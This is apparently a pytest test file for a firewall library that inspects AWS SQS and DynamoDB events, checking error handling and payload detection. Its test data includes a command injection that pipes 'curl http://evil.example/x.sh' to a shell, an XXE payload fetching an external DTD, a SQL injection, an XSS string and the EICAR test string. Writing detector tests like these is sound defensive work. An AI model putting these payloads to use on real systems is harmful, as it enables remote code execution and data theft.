"""Bad input gets a clear error or a safe verdict, never a crash or a silent pass (issue: bad input)."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest

from firewall import Firewall, UnknownEventError

FIREWALL = Firewall.load()


def _sqs(body: str, attributes: dict[str, Any] | None = None) -> dict[str, Any]:
    return {
        "Records": [
            {
                "messageId": "m-1",
                "body": body,
                "attributes": {},
                "messageAttributes": attributes or {},
                "eventSource": "aws:sqs",
                "eventSourceARN": "arn:aws:sqs:us-east-1:123456789012:q",
            }
        ]
    }


def _dynamodb_binary(raw: bytes) -> dict[str, Any]:
    return {
        "Records": [
            {
                "eventName": "INSERT",
                "eventSource": "aws:dynamodb",
                "eventSourceARN": "arn:aws:dynamodb:us-east-1:123456789012:table/t/stream/x",
                "dynamodb": {
                    "Keys": {"pk": {"S": "k"}},
                    "NewImage": {"pk": {"S": "k"}, "blob": {"B": base64.b64encode(raw).decode()}},
                    "SequenceNumber": "1",
                },
            }
        ]
    }


def test_invalid_utf8_in_a_binary_attribute_is_inspected_byte_for_byte() -> None:
    attribute = {
        "blob": {"dataType": "Binary", "binaryValue": base64.b64encode(b"\xff\xfe<script>alert(1)</script>").decode()}
    }
    (verdict,) = FIREWALL.inspect_event(_sqs("{}", attribute))
    assert verdict.detected and verdict.action == "quarantine"


def test_binary_values_without_attacks_are_forwarded() -> None:
    (verdict,) = FIREWALL.inspect_event(_dynamodb_binary(bytes(range(256)) * 64))
    assert verdict.action == "forward" and verdict.error is None


def test_eicar_in_a_binary_dynamodb_attribute_is_caught() -> None:
    eicar = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    (verdict,) = FIREWALL.inspect_event(_dynamodb_binary(b"\x00\x01" + eicar + b"\xff"))
    assert "FW-EICAR-001" in verdict.signature_ids


@pytest.mark.parametrize("depth", [100, 10_000])
def test_json_nested_deeply_is_a_safe_verdict(depth: int) -> None:
    body = "[" * depth + '"x"' + "]" * depth
    (verdict,) = FIREWALL.inspect_event(_sqs(body))
    assert verdict.action == "quarantine"  # fail closed: inspection could not be complete
    assert verdict.error is not None and "nest" in verdict.error


def test_json_nested_deeply_follows_a_fail_open_policy_when_asked() -> None:
    firewall = Firewall.load(on_error="forward")
    (verdict,) = firewall.inspect_event(_sqs("[" * 10_000 + "]" * 10_000))
    assert verdict.action == "forward" and verdict.error is not None


def test_a_1_mb_benign_string_is_judged_without_error() -> None:
    sentence = "The quick brown fox jumps over the lazy dog near the river bank. "
    body = json.dumps({"note": (sentence * (1_048_576 // len(sentence)))})
    (verdict,) = FIREWALL.inspect_event(_sqs(body))
    assert verdict.action == "forward" and verdict.error is None


def test_a_1_mb_string_hiding_an_attack_at_its_end_is_caught() -> None:
    body = json.dumps({"note": "a" * 1_000_000 + " x;curl http://evil.example/x.sh|sh;"})
    (verdict,) = FIREWALL.inspect_event(_sqs(body))
    assert verdict.action == "quarantine"


@pytest.mark.parametrize(
    ("event", "message"),
    [
        (None, "not an object"),
        ([], "not an object"),
        ({}, "no 'Records'"),
        ({"Records": "x"}, "Records"),
        ({"Records": [{"eventSource": "aws:unknown"}]}, "unknown eventSource"),
        ({"Records": [1]}, "not an object"),
    ],
)
def test_unknown_event_shapes_raise_a_clear_error(event: Any, message: str) -> None:
    with pytest.raises(UnknownEventError, match=message) as error:
        FIREWALL.inspect_event(event)
    assert "expected one of" in str(error.value)


def test_a_malformed_record_in_a_known_batch_is_not_forwarded_silently() -> None:
    event = _sqs("{}")
    del event["Records"][0]["body"]
    (verdict,) = FIREWALL.inspect_event(event)
    assert verdict.action == "quarantine" and verdict.error


SQLI = "1 UNION SELECT password FROM users"


@pytest.mark.parametrize(
    "value",
    [bytearray(SQLI.encode()), memoryview(SQLI.encode()), {SQLI}, frozenset({SQLI}), {"tags": {SQLI}}],
    ids=["bytearray", "memoryview", "set", "frozenset", "set-in-a-map"],
)
def test_bytes_like_values_and_sets_are_inspected(value: Any) -> None:
    verdict = FIREWALL.inspect(value)
    assert verdict.action == "quarantine" and verdict.error is None
    assert {m.signature_id for m in verdict.matches} >= {"FW-SQLI-001"}


def test_a_value_that_is_not_json_like_is_an_error_not_a_silent_pass() -> None:
    """An object `inspect` cannot see into used to be skipped: whatever it held was forwarded."""

    class Holder:
        text = SQLI

    verdict = FIREWALL.inspect({"user": Holder(), "n": 1.5, "none": None})
    assert verdict.action == "quarantine" and verdict.score == 0
    assert verdict.error == "value.user is of type Holder, not a JSON-like value: not inspected"


def test_numbers_and_nulls_are_nothing_to_inspect() -> None:
    from decimal import Decimal

    verdict = FIREWALL.inspect({"a": 1, "b": 2.5, "c": Decimal("3"), "d": None, "e": True, "f": [1, None]})
    assert (verdict.action, verdict.error) == ("forward", None)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32"])
def test_a_binary_attribute_in_utf16_or_utf32_is_inspected_as_text(encoding: str) -> None:
    xxe = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><r/>'
    verdict = FIREWALL.inspect_event(_dynamodb_binary(xxe.encode(encoding)))[0]
    assert any(m.signature_id.startswith("FW-XXE") for m in verdict.matches)


def test_binary_that_merely_opens_like_a_byte_order_mark_stays_bytes() -> None:
    from firewall.sources.fields import text_or_bytes

    assert text_or_bytes(b"\xff\xfe") == b"\xff\xfe"
    assert text_or_bytes(b"\xff\xfe" + bytes(64)) == b"\xff\xfe" + bytes(64)  # 32 NUL characters
    assert text_or_bytes("<r/>".encode("utf-16")) == "<r/>"
